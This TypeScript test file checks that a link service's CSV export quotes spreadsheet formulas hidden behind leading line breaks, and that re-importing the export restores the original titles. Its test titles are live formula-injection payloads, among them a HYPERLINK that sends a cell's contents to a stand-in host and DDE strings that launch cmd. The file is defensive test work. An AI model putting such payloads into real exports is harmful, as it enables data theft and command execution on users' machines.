import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { body, json, startStack, type Stack } from "../helpers.ts";

/**
 * CSV formula injection through the export: a title that starts with line breaks and then a
 * formula (`\n=HYPERLINK(…)`) is written quoted with `'`, like one that starts with the formula;
 * the import takes the quote off again.
 */
let s: Stack;
beforeAll(async () => {
  s = await startStack({ edge: false });
});
afterAll(() => s.close());

const TITLES = ['\n=HYPERLINK("https://evil.test/?leak="&A1,"click")', "\r\n+cmd|' /C calc'!A0", " \n\n@SUM(1+1)*cmd|' /C calc'!A0", "\n-2+3"];

describe("CSV export", () => {
  it("quotes a formula after leading line breaks, and the export re-imports unchanged", async () => {
    for (const [i, title] of TITLES.entries()) {
      const res = await fetch(`${s.ingest.url}/api/links`, { method: "POST", headers: json(s.adminKey), body: JSON.stringify({ url: `https://example.com/${i}`, slug: `f${i}`, title, tags: ["formula"] }) });
      expect(res.status).toBe(201);
      expect((await body(res)).title).toBe(title);
    }
    const res = await fetch(`${s.ingest.url}/api/links/export?tag=formula`, { headers: json(s.adminKey) });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.title).sort()).toEqual(TITLES.map((t) => `'${t}`).sort());

    await s.sql`DELETE FROM links`;
    const imported = await body(await fetch(`${s.ingest.url}/api/links/import`, { method: "POST", headers: { ...json(s.adminKey), "content-type": "text/csv" }, body: csv }));
    expect(imported).toMatchObject({ created: TITLES.length, failed: 0 });
    const titles = (await s.sql`SELECT title FROM links ORDER BY title`).map((r) => r.title);
    expect(titles).toEqual([...TITLES].sort());
  });
});
